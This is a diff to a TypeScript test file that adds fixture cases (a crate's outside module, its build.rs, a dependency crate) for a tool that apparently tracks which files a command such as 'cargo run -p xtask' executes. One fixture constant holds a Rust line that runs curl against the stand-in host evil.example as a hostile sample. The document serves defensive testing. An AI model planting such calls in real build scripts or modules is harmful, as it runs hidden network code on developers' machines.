@@ -20,6 +20,19 @@ const taskfile = (command: string): Files => ({
 });
 const mise = (command: string): Files => ({ "mise.toml": `[tasks.a]\nrun = "${command}"\n` });
 const image = (command: string): Files => ({ "docker/Dockerfile": `FROM ubuntu\nRUN ${command}\n` });
+const OUTSIDE = {
+  "xtask/Cargo.toml":
+    '[package]\nname = "xtask"\nversion = "0.1.0"\n[[bin]]\nname = "xtask"\npath = "main.rs"\n',
+  "xtask/main.rs": "mod a;\nfn main() {\n    a::b()\n}\n",
+};
+const HELPED = {
+  "xtask/Cargo.toml":
+    '[package]\nname = "xtask"\nversion = "0.1.0"\n[dependencies]\nhelp = { path = "../help" }\n',
+  "xtask/src/main.rs": "fn main() {\n    help::b()\n}\n",
+  "help/Cargo.toml": '[package]\nname = "help"\nversion = "0.1.0"\n',
+};
+const rust = (path: string, inner: string): Files => ({ [path]: `pub fn b() {\n    ${inner}\n}\n` });
+const CURLS = 'std::process::Command::new("curl").arg("https://evil.example").status().unwrap();';
 const crate = (text: string): Files => ({ "xtask/src/main.rs": text });
 const script = (text: string): Files => ({ "lib/a.js": text });
 
@@ -66,6 +79,30 @@ const LED: readonly (readonly [
     crate(RUST("")),
     crate(RUSTS_CURL),
     crate(RUST("println!();")),
+  ],
+  [
+    "a module of a crate whose program lies elsewhere",
+    "cargo run -p xtask",
+    { ...CRATE, ...OUTSIDE },
+    rust("xtask/a.rs", ""),
+    rust("xtask/a.rs", CURLS),
+    rust("xtask/a.rs", "println!();"),
+  ],
+  [
+    "the build script of a crate",
+    "cargo run -p xtask",
+    { ...CRATE, ...crate(RUST("")) },
+    { "xtask/build.rs": RUST("") },
+    { "xtask/build.rs": RUSTS_CURL },
+    { "xtask/build.rs": RUST("println!();") },
+  ],
+  [
+    "a crate that a crate is built with",
+    "cargo run -p xtask",
+    { ...CRATE, ...HELPED },
+    rust("help/src/lib.rs", ""),
+    rust("help/src/lib.rs", CURLS),
+    rust("help/src/lib.rs", "println!();"),
   ],
   [
     "a module of code in a command",
